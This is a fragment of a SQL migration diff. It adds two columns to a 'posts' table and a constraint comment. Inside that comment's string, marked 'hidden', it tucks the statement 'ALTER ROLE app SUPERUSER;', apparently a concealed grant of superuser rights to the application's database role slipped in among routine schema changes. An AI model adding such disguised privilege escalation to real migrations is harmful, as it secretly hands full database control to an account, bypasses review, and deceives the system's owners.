@@ -10,8 +10,14 @@ CREATE TABLE posts (
     user_id bigint NOT NULL REFERENCES users ON DELETE CASCADE,
     region text NOT NULL DEFAULT 'eu',
     body text NOT NULL,
-    touched integer NOT NULL DEFAULT 0
+    touched integer NOT NULL DEFAULT 0,
+    size integer,
+    at timestamptz
 );
+COMMENT ON CONSTRAINT posts_pkey ON posts IS 'so
+-- step 005.9999 (alone): hidden
+ALTER ROLE app SUPERUSER;
+-- step 005.9998 (alone): too';
 CREATE INDEX posts_user_id_idx ON posts (user_id);
 CREATE TABLE comments (
     post_id bigint NOT NULL REFERENCES posts ON DELETE CASCADE,
